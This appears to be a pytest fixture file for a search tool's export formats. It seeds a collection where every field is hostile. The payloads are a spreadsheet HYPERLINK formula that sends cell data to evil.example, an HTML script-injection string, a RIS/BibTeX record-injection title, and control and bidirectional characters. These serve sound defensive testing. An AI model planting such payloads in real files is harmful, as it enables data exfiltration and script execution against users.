"""Files of a collection that is hostile in every field, made as the application makes them."""

from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from search.exporting import FORMATS, cited_hits, encoded, provenance
from search.records import Metadata, SearchRequest
from search.searcher import Searcher
from tests.building import Filed, filed

Exported = Callable[..., bytes]
MADE = datetime(2026, 11, 22, 22, 4, 54, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"siren")'
PAYLOAD = "</mark></style><script>alert(1)</script> siren"
TITLE = "}\\evil{\r\nER  - \r\nTY  - BOOK"


def hostile() -> list[Filed]:
    """Passages that begin as formulas, with quotes, commas, line breaks, NUL and half of a pair."""
    return [
        filed(
            FORMULA,
            '+siren, "quoted",\nand parted',
            "-siren",
            "@siren",
            "\tsiren",
            "\rsiren",
            "'siren",
            "＝siren",
            PAYLOAD,
            "siren \x00 \u2028 \u2029 \x85 end",
            source="@evil,\n.txt",
            metadata=Metadata(title=TITLE, authors=("=A1", "Ko\u202e{}"), url="https://x.example/a?b=c&d#e"),
        ),
    ]


@pytest.fixture
def searcher(searching: Callable[..., Searcher]) -> Searcher:
    return searching(hostile())


@pytest.fixture
def exported(searcher: Searcher) -> Exported:
    """A whole file of a format."""

    def export(name: str, query: str = "siren", **given: object) -> bytes:
        request = SearchRequest(query, **given)  # type: ignore[arg-type]
        of = provenance(searcher, request, MADE, "http://127.0.0.1/?q=siren")
        hits = cited_hits(
            searcher.all_hits(request), searcher.catalogue, of.page.generation, lambda one: f"http://127.0.0.1/{one}"
        )
        return b"".join(encoded(FORMATS[name].written(of, hits)))

    return export
